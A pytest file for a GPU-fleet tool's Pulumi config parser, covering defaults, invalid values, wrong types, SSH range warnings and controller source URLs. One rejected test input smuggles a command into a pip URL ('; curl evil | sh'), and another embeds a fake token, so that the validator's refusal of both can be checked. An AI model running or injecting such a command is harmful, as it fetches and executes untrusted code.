"""Stack config -> FleetSpec: defaults, every documented bad value, and a wrong type for every key."""

from __future__ import annotations

import json

import pytest

from gpufleet.catalog import COS_DEFAULT_CONTAINER_IMAGE, known_types
from infra.config import (
    COMPACT_PLACEMENT_MAX_VMS,
    IAP_RANGE,
    KEYS,
    ConfigError,
    parse_spec,
)

BASE = {"gcp:project": "gpufleet-test", "gcp:zone": "us-central1-a"}


def spec(stack: str = "dev", **keys):
    raw = {**BASE}
    for k, v in keys.items():
        # As the engine passes them: strings, structured values as JSON text.
        raw[k if ":" in k else f"gpufleet:{k}"] = v if isinstance(v, str) else json.dumps(v)
    return parse_spec(raw, stack=stack)


def error(**keys) -> str:
    with pytest.raises(ConfigError) as e:
        spec(**keys)
    message = str(e.value)
    assert "\n" not in message, message
    return message


def test_defaults_describe_a_two_node_a3_high_fleet_reachable_only_through_iap():
    s = spec()
    assert (s.cluster, s.machine_type, s.nodes) == ("dev", "a3-highgpu-8g", 2)
    assert s.placement == "compact" and s.max_distance is None
    assert s.provisioning == "standard" and s.reservation is None
    assert s.external_ip is False
    assert s.ssh_source_ranges == (IAP_RANGE,)
    assert s.image == "projects/cos-cloud/global/images/family/cos-105-lts" and s.image_os == "cos"
    # COS has no Python for the job: the ranks run in the catalog's pinned PyTorch image.
    assert s.container_image == COS_DEFAULT_CONTAINER_IMAGE and "@sha256:" in s.container_image
    assert s.users == ()
    assert s.region == "us-central1"
    assert s.service_account is None and s.checkpoint_bucket is None


def test_one_node_defaults_to_no_placement_policy():
    assert spec(nodes=1).placement == "none"


def test_a_reservation_defaults_to_no_placement_policy_of_our_own():
    s = spec(reservation="my-res")
    assert s.placement == "none" and s.reservation == "my-res"


def test_values_are_parsed_from_the_engines_strings():
    s = spec(
        machineType="a3-megagpu-8g",
        nodes="16",
        name="llm",
        externalIp="true",
        sshSourceRanges=["10.0.0.0/8", "192.168.0.0/16"],
        labels={"team": "research"},
        checkpointBucket="gs://llm-ckpts",
        maxDistance="2",
        bootDiskSizeGb="500",
    )
    assert (s.nodes, s.cluster, s.external_ip, s.boot_disk_size_gb, s.max_distance) == (16, "llm", True, 500, 2)
    assert s.ssh_source_ranges == ("10.0.0.0/8", "192.168.0.0/16")
    assert s.checkpoint_bucket == "llm-ckpts"
    assert s.node_labels(3) == {"team": "research", "gpufleet-cluster": "llm", "gpufleet-node": "3"}
    assert s.image_os == "ubuntu"


def test_unknown_machine_type_lists_every_known_type():
    m = error(machineType="a3-mega")
    assert "gpufleet:machineType" in m and "'a3-mega'" in m
    for t in known_types():
        assert t in m


@pytest.mark.parametrize("nodes", [0, -3])
def test_fewer_than_one_node_is_refused(nodes):
    m = error(nodes=nodes)
    assert "gpufleet:nodes" in m and str(nodes) in m and "from 1" in m


def test_more_nodes_than_one_compact_placement_policy_holds_is_refused():
    m = error(nodes=COMPACT_PLACEMENT_MAX_VMS + 1)
    assert "gpufleet:nodes" in m and str(COMPACT_PLACEMENT_MAX_VMS + 1) in m
    assert f"at most {COMPACT_PLACEMENT_MAX_VMS}" in m and "PLACEMENT_MAX_CNT" in m
    assert spec(nodes=COMPACT_PLACEMENT_MAX_VMS + 1, placement="none").nodes == COMPACT_PLACEMENT_MAX_VMS + 1


def test_spot_with_a_reservation_is_refused():
    m = error(provisioning="spot", reservation="my-res")
    assert "gpufleet:reservation" in m and "'my-res'" in m and "spot" in m and "standard" in m


def test_flex_start_with_a_reservation_is_refused():
    assert "flex-start" in error(provisioning="flex-start", reservation="my-res")


@pytest.mark.parametrize("machine", ["a3-highgpu-1g", "a3-highgpu-2g", "a3-highgpu-4g"])
def test_small_a3_high_types_refuse_standard_provisioning(machine):
    m = error(machineType=machine, nodes=1)
    assert "gpufleet:provisioning" in m and "'standard'" in m and machine in m
    assert "spot, flex-start" in m
    assert spec(machineType=machine, nodes=1, provisioning="spot").provisioning == "spot"


@pytest.mark.parametrize("cidr", ["10.0.0.1/8", "300.1.1.1/32", "10.0.0.0/33", "not-a-cidr", "2001:db8::/32"])
def test_a_bad_cidr_in_ssh_source_ranges_is_refused(cidr):
    m = error(sshSourceRanges=[IAP_RANGE, cidr])
    assert "gpufleet:sshSourceRanges" in m and cidr in m and "CIDR" in m


@pytest.mark.parametrize(
    "bucket",
    [
        "ab",
        "My-Bucket",
        "goog-checkpoints",
        "my-google-ckpts",
        "192.168.1.1",
        "-leading",
        "trailing-",
        "a" * 64,
        "has space",
    ],
)
def test_a_bucket_name_gcs_would_refuse_is_refused(bucket):
    m = error(checkpointBucket=bucket)
    assert "gpufleet:checkpointBucket" in m and bucket in m and "GCS bucket name" in m


def test_a_misspelled_key_is_named_with_the_known_keys():
    m = error(node=4)
    assert "gpufleet:node " in m and "nodes" in m


def test_placement_compact_for_one_node_and_max_distance_without_compact_are_refused():
    assert "nodes >= 2" in error(nodes=1, placement="compact")
    assert "only with gpufleet:placement compact" in error(placement="none", maxDistance=2)


def test_a3_refuses_max_distance_1():
    m = error(machineType="a3-megagpu-8g", maxDistance=1)
    assert "gpufleet:maxDistance" in m and "from 2 to 3" in m
    assert spec(machineType="a2-highgpu-8g", maxDistance=1).max_distance == 1


def test_our_own_labels_cannot_be_overridden():
    m = error(labels={"gpufleet-node": "7"})
    assert "gpufleet-node" in m


def test_missing_project_and_zone_say_how_to_set_them():
    with pytest.raises(ConfigError, match=r"gcp:project is not set.*pulumi config set gcp:project"):
        parse_spec({"gcp:zone": "us-central1-a"}, stack="dev")
    with pytest.raises(ConfigError, match=r"gcp:zone is not set.*pulumi config set gcp:zone"):
        parse_spec({"gcp:project": "gpufleet-test"}, stack="dev")


def test_a_stack_name_gce_cannot_use_asks_for_a_cluster_name():
    with pytest.raises(ConfigError, match=r"stack name 'My_Stack'.*gpufleet:name"):
        spec(stack="My_Stack")
    assert spec(stack="My_Stack", name="ok-name").cluster == "ok-name"


# One wrong-typed value per key, as YAML would hold it (number, bool, list, map where a
# different type belongs). Each must give one line naming the key.
WRONG_TYPES = {
    "machineType": 5,
    "nodes": "two",
    "spares": "one",
    "name": ["a", "b"],
    "placement": True,
    "maxDistance": "far",
    "provisioning": 1,
    "reservation": ["my-res"],
    "maxRunHours": {"h": 1},
    "image": 7,
    "bootDiskSizeGb": 2.5,
    "externalIp": "yes",
    "sshSourceRanges": "35.235.240.0/20",
    "serviceAccount": True,
    "checkpointBucket": 12345,
    "labels": ["team"],
    "controller": "sometimes",
    "controllerSource": 3,
    "packageIndex": "maybe",
    "containerImage": ["train:v1"],
    "users": "user:ana@example.com",
    "gcp:project": 42,
    "gcp:zone": ["us-central1-a"],
}


def test_every_key_has_a_wrong_type_case():
    assert set(KEYS) | {"gcp:project", "gcp:zone"} == set(WRONG_TYPES)


@pytest.mark.parametrize("key", sorted(WRONG_TYPES))
def test_a_wrong_type_for_every_key_gives_one_line_naming_it(key):
    extra = {"provisioning": "flex-start"} if key == "maxRunHours" else {}
    m = error(**{key: WRONG_TYPES[key]}, **extra)
    full = key if ":" in key else f"gpufleet:{key}"
    assert m.startswith(f"config {full}"), m
    shown = WRONG_TYPES[key] if isinstance(WRONG_TYPES[key], str) else json.dumps(WRONG_TYPES[key])
    assert shown in m, m


@pytest.mark.parametrize(
    "key, value",
    [
        ("nodes", 2.0),
        ("nodes", True),
        ("externalIp", 1),
        ("labels", {"team": 1}),
        ("sshSourceRanges", [1]),
        ("labels", {"Team": "x"}),
        ("name", "-bad"),
        ("name", "a" * 41),
        ("bootDiskSizeGb", 10),
    ],
)
def test_more_wrong_values_are_refused(key, value):
    assert f"gpufleet:{key}" in error(**{key: value})


@pytest.mark.parametrize("machine", ["a3-megagpu-8g", "a3-ultragpu-8g", "a4-highgpu-8g"])
def test_a_cos_image_is_refused_where_the_net_stack_installs_with_apt(machine):
    cos = "projects/cos-cloud/global/images/family/cos-105-lts"
    m = error(machineType=machine, image=cos)
    assert m.startswith("config gpufleet:image") and cos in m and "apt" in m and "Ubuntu" in m
    # The type's default image boots, and COS stays fine where the stack does not need apt.
    assert spec(machineType=machine).image_os == "ubuntu"
    assert spec(machineType="a3-highgpu-8g", image=cos).image_os == "cos"


def test_cluster_labels_are_the_node_labels_without_the_node():
    s = spec(name="llm", labels={"team": "research"})
    assert s.cluster_labels == {"team": "research", "gpufleet-cluster": "llm"}
    assert s.node_labels(0) == {**s.cluster_labels, "gpufleet-node": "0"}


def test_keys_of_other_namespaces_are_ignored():
    assert spec(**{"gcp:region": "us-central1", "aws:region": "us-east-1"}).zone == "us-central1-a"


def test_a_date_in_a_stack_file_stays_the_text_it_was_written_as(tmp_path):
    from infra.config import read_stack_file

    path = tmp_path / "Pulumi.dev.yaml"
    path.write_text(
        "config:\n  gcp:project: gpufleet-test\n  gcp:zone: us-central1-a\n  gpufleet:labels: {created: 2024-01-01}\n"
    )
    assert read_stack_file(str(path)).labels == (("created", "2024-01-01"),)
    path.write_text("config:\n  gcp:project: gpufleet-test\n  gcp:zone: us-central1-a\n  gpufleet:name: 2024-01-01\n")
    with pytest.raises(ConfigError, match=r"^config gpufleet:name = '2024-01-01' is not allowed: 1-40 lowercase"):
        read_stack_file(str(path))


def test_the_controller_vm_is_on_by_default_and_installs_from_no_source():
    # No made-up home to install from: without a source the launcher ships its own code there.
    s = spec()
    assert s.controller is True and s.controller_source is None
    off = spec(controller=False)
    assert off.controller is False
    assert spec(controller="false").controller is False  # as `pulumi config set` writes it


@pytest.mark.parametrize(
    "source",
    [
        "git+https://github.com/me/gpufleet.git",
        "git+https://github.com/me/gpufleet.git@v0.1.0",
        "git+https://gitlab.example.com:8443/team/gpufleet@main",
        "https://example.com/dist/gpufleet-0.1.0-py3-none-any.whl",
        "https://example.com/dist/gpufleet-0.1.0.tar.gz",
    ],
)
def test_a_controller_source_is_any_pip_url_without_credentials(source):
    assert spec(controllerSource=source).controller_source == source


@pytest.mark.parametrize(
    "source",
    [
        "git+https://me:ghp_secret@github.com/me/gpufleet.git",  # a token would sit in metadata
        "https://token@example.com/gpufleet-0.1.0.whl",
        "git+ssh://git@github.com/me/gpufleet.git",  # needs a key on the VM
        "http://example.com/gpufleet-0.1.0.whl",  # not TLS
        "gpufleet==0.1.0",  # an index name: whoever holds it there
        "https://example.com/gpufleet",  # neither a git URL nor an archive
        "git+https://github.com/me/gpufleet.git; curl evil | sh",
    ],
)
def test_a_controller_source_with_credentials_or_not_a_pip_url_is_one_line(source):
    m = error(controllerSource=source)
    assert m.startswith("config gpufleet:controllerSource") and source in m
    assert "without credentials" in m and "git+https://HOST/OWNER/REPO.git" in m


def test_a_controller_source_without_a_controller_is_refused():
    m = error(controller=False, controllerSource="git+https://github.com/me/gpufleet.git")
    assert m.startswith("config gpufleet:controllerSource") and "only with gpufleet:controller true" in m


# ---- what the config grants, said ------------------------------------------------------------------


def test_ssh_open_to_the_internet_on_public_addresses_warns_in_the_check(tmp_path, capsys):
    from infra.config import main, spec_warnings

    path = tmp_path / "Pulumi.dev.yaml"
    path.write_text(
        "config:\n  gcp:project: gpufleet-test\n  gcp:zone: us-central1-a\n"
        "  gpufleet:externalIp: true\n  gpufleet:sshSourceRanges: ['0.0.0.0/0']\n"
    )
    assert main([str(path)]) == 0  # allowed, but said
    err = capsys.readouterr().err
    assert err.startswith("warning: gpufleet:sshSourceRanges 0.0.0.0/0 with gpufleet:externalIp true opens SSH")
    assert "35.235.240.0/20" in err and err.count("\n") == 1
    # Without public addresses, or with a named range, nothing to say.
    assert spec_warnings(spec(externalIp=False, sshSourceRanges=["0.0.0.0/0"])) == []
    assert spec_warnings(spec(externalIp=True, sshSourceRanges=["203.0.113.0/24"])) == []
    assert spec_warnings(spec()) == []


def test_the_package_index_is_on_by_default_and_a_container_image_is_optional():
    s = spec(machineType="a3-megagpu-8g")  # Ubuntu: jobs run on the node unless an image is named
    assert s.package_index is True and s.container_image is None
    assert spec(packageIndex=False).package_index is False
    for image in (
        "us-central1-docker.pkg.dev/my-proj/demo-images/train:v1",
        "nvcr.io/nvidia/pytorch:25.01-py3",
        "localhost:5000/train@sha256:" + "a" * 64,
        "ubuntu",
    ):
        assert spec(containerImage=image).container_image == image


@pytest.mark.parametrize("image", ["Train:v1", "a/b:", "host/x y", "https://gcr.io/x"])
def test_a_container_image_that_is_no_image_reference_is_one_line(image):
    with pytest.raises(ConfigError, match=r"^config gpufleet:containerImage = .* is not allowed: a container image"):
        spec(containerImage=image)


# ---- every bad key at once -------------------------------------------------------------------------


def test_three_bad_keys_give_three_lines_in_the_check(tmp_path, capsys):
    from infra.config import main

    path = tmp_path / "Pulumi.dev.yaml"
    path.write_text(
        "config:\n  gcp:project: gpufleet-test\n  gcp:zone: us-central1-a\n"
        "  gpufleet:nodes: two\n  gpufleet:bootDiskSizeGb: big\n  gpufleet:externalIp: maybe\n"
    )
    assert main([str(path)]) == 2
    captured = capsys.readouterr()
    lines = captured.err.splitlines()
    assert captured.out == ""
    assert len(lines) == 3, lines
    assert lines[0].startswith("error: config gpufleet:nodes = 'two' is not allowed: a whole number")
    assert lines[1].startswith("error: config gpufleet:bootDiskSizeGb = 'big' is not allowed")
    assert lines[2] == "error: config gpufleet:externalIp = 'maybe' is not allowed: true or false"


def test_every_bad_key_is_its_own_line_and_a_rule_between_keys_waits_for_both():
    with pytest.raises(ConfigError) as e:
        spec(**{"gcp:zone": "nowhere"}, nodes=0, provisioning="cheap", maxRunHours=5, colour="red")
    lines = e.value.lines
    assert str(e.value) == "\n".join(lines)
    # The misspelled key, the zone, nodes, provisioning; maxRunHours's rule (flex-start only) is
    # not judged against a provisioning that is itself refused.
    assert [line.split()[1] for line in lines] == [
        "gpufleet:colour",
        "gcp:zone",
        "gpufleet:nodes",
        "gpufleet:provisioning",
    ], lines


def test_missing_project_and_zone_are_both_named():
    with pytest.raises(ConfigError) as e:
        parse_spec({}, stack="dev")
    assert [line.split()[1] for line in e.value.lines] == ["gcp:project", "gcp:zone"]


# ---- gpufleet:users ----------------------------------------------------------------------------------


def test_users_are_iam_members_kept_in_order_without_repeats():
    members = ["user:ana@example.com", "group:ml-team@example.com", "user:ana@example.com", "domain:example.com"]
    assert spec(users=members).users == ("user:ana@example.com", "group:ml-team@example.com", "domain:example.com")


def test_each_bad_user_entry_is_its_own_line():
    with pytest.raises(ConfigError) as e:
        spec(users=["ana@example.com", "user:bob@example.com", "role:owner", "group:"])
    lines = e.value.lines
    assert len(lines) == 3, lines
    assert lines[0].startswith("config gpufleet:users[0] = 'ana@example.com' is not allowed: an IAM member: user:EMAIL")
    assert lines[1].startswith("config gpufleet:users[2] = 'role:owner'")
    assert lines[2].startswith("config gpufleet:users[3] = 'group:'")
